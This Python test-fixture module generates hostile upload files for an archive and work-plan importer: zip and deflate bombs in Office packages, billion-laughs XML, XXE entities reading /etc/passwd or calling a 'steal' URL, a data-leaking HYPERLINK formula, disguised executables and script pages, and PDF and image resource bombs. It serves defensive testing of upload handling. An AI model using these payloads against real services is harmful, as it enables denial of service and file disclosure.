"""Hostile files, made in the test run (nothing big is committed), for every place that takes a file from a person.

Each entry is a file someone could upload to the archive or as a work plan workbook: deflate bombs inside Word,
PowerPoint and Excel packages, nested and overlapping zip entries, thousands of tiny entries, XML bombs (billion
laughs), DOCTYPEs and external entities (a local file, a URL), formulas, disguised types (a program or a web page
under an office name, a PDF that is a zip, a polyglot), huge declared dimensions, PDFs with a huge object stream
or thousands of pages, 50 MB files and empty files. The tests that use it (tests/archive/test_hostile_files.py,
tests/workplans/test_hostile_workbooks.py) require each to be refused with a reason, or for the archive kept with
its text not read and the reason shown, in under LIMIT_SECONDS and LIMIT_MB.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

LIMIT_SECONDS = 5
LIMIT_MB = 200

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]>"
)


class Repeated(bytes):
    """`times` copies of a piece, written without building it whole (the bombs unpack to 100 MB or more)."""

    def __new__(cls, piece: bytes, times: int, head: bytes = b"", tail: bytes = b""):
        made = super().__new__(cls, piece)
        made.times, made.head, made.tail = times, head, tail
        return made


def _package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in parts.items():
            if isinstance(data, Repeated):
                with package.open(name, "w", force_zip64=True) as part:
                    part.write(data.head)
                    block = bytes(data) * max(1, 2**20 // len(data))
                    whole, rest = divmod(data.times * len(data), len(block))
                    for _ in range(whole):
                        part.write(block)
                    part.write(block[:rest])
                    part.write(data.tail)
            else:
                package.writestr(name, data)
    return out.getvalue()


@functools.cache
def _word_parts() -> dict[str, bytes]:
    """The parts of a real Word file (python-docx's own template), so that only the document's body is hostile."""
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    with zipfile.ZipFile(out) as package:
        return {item.filename: package.read(item) for item in package.infolist()}


def docx(document_xml: bytes, **extra: bytes) -> bytes:
    return _package({**_word_parts(), "word/document.xml": document_xml, **extra})


WORD_HEAD = b'<?xml version="1.0"?><w:document ' + W_NS + b"><w:body>"
WORD_TAIL = b"</w:body></w:document>"


def word_document(body: bytes, times: int = 1) -> bytes:
    return Repeated(body, times, WORD_HEAD, WORD_TAIL) if times > 1 else WORD_HEAD + body + WORD_TAIL


def paragraphs(count: int) -> bytes:
    """`count` paragraphs, one in ten with a word (the others are empty bold runs: work for a reader, no text)."""
    ten = b"<w:p><w:r><w:t>Remittances</w:t></w:r></w:p>" + b"<w:p><w:r><w:rPr><w:b/></w:rPr></w:r></w:p>" * 9
    return word_document(ten, max(1, count // 10))


def pptx(slide_xml: bytes) -> bytes:
    return _package(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation/>',
            "ppt/slides/slide1.xml": slide_xml,
        }
    )


def xlsx(sheet_xml: bytes, **extra: bytes) -> bytes:
    return _package(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
            "xl/worksheets/sheet1.xml": sheet_xml,
            **extra,
        }
    )


def real_xlsx(change: Callable | None = None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Year", "Output", "No."])
    if change is not None:
        change(book.active)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_entities(root: bytes, declaration: bytes) -> bytes:
    return b'<?xml version="1.0"?>' + declaration + root


def overlapping_entries() -> bytes:
    """Two names in the central directory pointing at the same local entry (the trick of "overlapping" bombs)."""
    data = bytearray(docx(paragraphs(10)))
    end = data.rindex(b"PK\x05\x06")
    directory = struct.unpack("<I", data[end + 16 : end + 20])[0]
    first = data.index(b"PK\x01\x02", directory)
    second = data.index(b"PK\x01\x02", first + 4)
    # The second entry's local header offset (at +42) now points at the first entry's data.
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def many_tiny_entries(count: int = 5000, required: str = "word/document.xml") -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, required: paragraphs(1)}
    parts.update({f"word/media/{i}.xml": b"" for i in range(count)})
    return _package(parts)


def nested_zip_bomb() -> bytes:
    inner = _package({"bomb.xml": Repeated(b"\0", 100 * 2**20)})
    return docx(paragraphs(10), **{"word/embeddings/inner.docx": inner})


def pdf_with(stream: bytes, *, pages: int = 1, filtered: bool = False) -> bytes:
    """A PDF whose pages share one content stream (FlateDecode when `filtered`)."""
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    content_number = 4 + pages
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    page = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {content_number} 0 R "
        "/Resources << /Font << /F1 3 0 R >> >> >>"
    ).encode()
    objects += [page] * pages
    body = zlib.compress(stream, 1) if filtered else stream
    flate = b" /Filter /FlateDecode" if filtered else b""
    objects.append(b"<< /Length " + str(len(body)).encode() + flate + b" >>\nstream\n" + body + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets))
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))


def huge_dimensions_sheet() -> bytes:
    return xlsx(
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr">'
        b"<is><t>x</t></is></c></row></sheetData></worksheet>"
    )


def formula_workbook() -> bytes:
    def change(sheet):
        sheet.append([2014, '=HYPERLINK("http://x/?"&A1,"Click")', "=1+1"])

    return real_xlsx(change)


XXE_FILE = b'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_URL = b'<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 512
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
FIFTY_MB = 50 * 2**20


@dataclass(frozen=True)
class Hostile:
    key: str
    name: str
    build: Callable[[], bytes]
    what: str

    @functools.cached_property
    def data(self) -> bytes:
        return self.build()


CORPUS = [
    # Deflate bombs: small files that unpack to far more than any document.
    Hostile("word-bomb-5mb", "report.docx", lambda: docx(paragraphs(120_000)), "Word file unpacking to 5 MB"),
    Hostile("word-bomb-120mb", "report.docx", lambda: docx(paragraphs(3_000_000)), "Word file unpacking to 120 MB"),
    Hostile("word-zeros", "report.docx", lambda: docx(word_document(b" ", 100 * 2**20)), "100 MB of spaces"),
    Hostile("slides-bomb", "slides.pptx", lambda: pptx(Repeated(b"<a:t>x</a:t>", 8 * 2**20)), "100 MB of XML"),
    Hostile("sheet-bomb", "plan.xlsx", lambda: xlsx(Repeated(b"\0", 100 * 2**20)), "workbook part of 100 MB"),
    Hostile("nested-zip", "report.docx", nested_zip_bomb, "a zip bomb inside a Word file"),
    Hostile("overlapping", "report.docx", overlapping_entries, "two entries sharing their data"),
    Hostile("tiny-entries-docx", "report.docx", many_tiny_entries, "5,000 tiny entries"),
    Hostile("tiny-entries-xlsx", "plan.xlsx", lambda: many_tiny_entries(5000, "xl/workbook.xml"), "5,000 entries"),
    Hostile("many-elements", "report.docx", lambda: docx(word_document(b"<w:p/>", 2_000_000)), "2M empty elements"),
    # XML bombs and external entities.
    Hostile("laughs-docx", "report.docx", lambda: docx(with_entities(b"<d>&lol9;</d>", BILLION_LAUGHS)), "laughs"),
    Hostile("laughs-xlsx", "plan.xlsx", lambda: xlsx(with_entities(b"<d>&lol9;</d>", BILLION_LAUGHS)), "laughs"),
    Hostile("xxe-file-docx", "report.docx", lambda: docx(with_entities(b"<d>&xxe;</d>", XXE_FILE)), "/etc/passwd"),
    Hostile("xxe-url-pptx", "slides.pptx", lambda: pptx(with_entities(b"<d>&xxe;</d>", XXE_URL)), "an entity URL"),
    Hostile("xxe-file-xlsx", "plan.xlsx", lambda: xlsx(with_entities(b"<d>&xxe;</d>", XXE_FILE)), "/etc/passwd"),
    Hostile(
        "doctype-xlsx",
        "plan.xlsx",
        lambda: real_xlsx_with_doctype(),
        "a real workbook whose sheet declares a DOCTYPE and uses its entity",
    ),
    # Formulas and huge dimensions.
    Hostile("formulas", "plan.xlsx", formula_workbook, "formulas made to leak data"),
    Hostile("huge-dimensions", "plan.xlsx", huge_dimensions_sheet, "a sheet claiming 16,384 x 1,048,576 cells"),
    Hostile("huge-png", "chart.png", lambda: png_header(100_000, 100_000), "an image claiming 10^10 pixels"),
    # Disguised types.
    Hostile("exe-as-pdf", "report.pdf", lambda: EXE, "a program named .pdf"),
    Hostile("exe-as-docx", "report.docx", lambda: EXE, "a program named .docx"),
    Hostile("exe-as-xlsx", "plan.xlsx", lambda: EXE, "a program named .xlsx"),
    Hostile("html-as-pdf", "report.pdf", lambda: HTML, "a web page named .pdf"),
    Hostile("html-as-docx", "report.docx", lambda: HTML, "a web page named .docx"),
    Hostile("html-as-xlsx", "plan.xlsx", lambda: HTML, "a web page named .xlsx"),
    Hostile("zip-as-pdf", "report.pdf", lambda: docx(paragraphs(5)), "a zip named .pdf"),
    Hostile("polyglot-pdf-zip", "plan.xlsx", lambda: pdf_with(b"BT ET") + real_xlsx(), "a PDF with a workbook"),
    Hostile("polyglot-zip-pdf", "report.pdf", lambda: pdf_with(b"BT ET") + docx(paragraphs(5)), "a PDF with a zip"),
    # PDFs that cost time.
    Hostile("pdf-object-bomb", "report.pdf", lambda: pdf_with(b" " * (100 * 2**20), filtered=True), "100 MB stream"),
    Hostile("pdf-many-pages", "report.pdf", lambda: pdf_with(b"BT /F1 9 Tf (x) Tj ET", pages=20_000), "20,000 pages"),
    # Sizes.
    Hostile("fifty-mb-pdf", "report.pdf", lambda: b"%PDF-1.4\n" + b"\0" * FIFTY_MB, "a 50 MB file"),
    Hostile("fifty-mb-xlsx", "plan.xlsx", lambda: b"PK\x03\x04" + b"\0" * FIFTY_MB, "a 50 MB file"),
    Hostile("empty-pdf", "report.pdf", lambda: b"", "an empty file"),
    Hostile("empty-docx", "report.docx", lambda: b"", "an empty file"),
    Hostile("empty-xlsx", "plan.xlsx", lambda: b"", "an empty file"),
]


def real_xlsx_with_doctype() -> bytes:
    """A workbook as Excel writes it, whose sheet declares a DOCTYPE with an entity used in a cell (what made the
    work plan import answer 500: the rows are parsed after the workbook was opened)."""

    def change(sheet):
        # The work plan's own columns, so that the import reads past the header into the rows.
        sheet.delete_rows(1)
        sheet.append(["Year", "Output", "No.", "Activities", "Timeframe", "Lead", "Partners", "Funding source"])
        sheet.append([2014, "Output 1", "1.1", "placeholder", "2014", "IOM", "", ""])
        sheet["I1"], sheet["J1"], sheet["K1"] = "Cost", "Currency", "Status"

    source = zipfile.ZipFile(io.BytesIO(real_xlsx(change)))
    parts = {item.filename: source.read(item) for item in source.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"<t>placeholder</t>", b"<t>&xxe;</t>")
    parts["xl/worksheets/sheet1.xml"] = b'<?xml version="1.0"?>' + XXE_FILE.replace(b"d [", b"worksheet [") + sheet
    return _package(parts)


def _status(field: str) -> int:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1])  # kB
    raise LookupError(field)


def measured(call: Callable[[], object]) -> tuple[object, float, float]:
    """What `call` returns, the seconds it took, and by how many MB it raised the memory of this process above
    what it held before (its peak, reset first through /proc/self/clear_refs).

    A process it starts is not counted here: the kernel's figure for children includes the size of this process
    when the child started (a test process that has run many tests is hundreds of MB), so the archive's reading
    process measures and reports its own peak, which the tests check apart."""
    import time

    with open("/proc/self/clear_refs", "w") as clear:
        clear.write("5")  # resets this process's peak resident size (VmHWM) to its current size
    before = _status("VmRSS")
    started = time.monotonic()
    result = call()
    seconds = time.monotonic() - started
    grown = _status("VmHWM") - before
    return result, seconds, grown / 1024
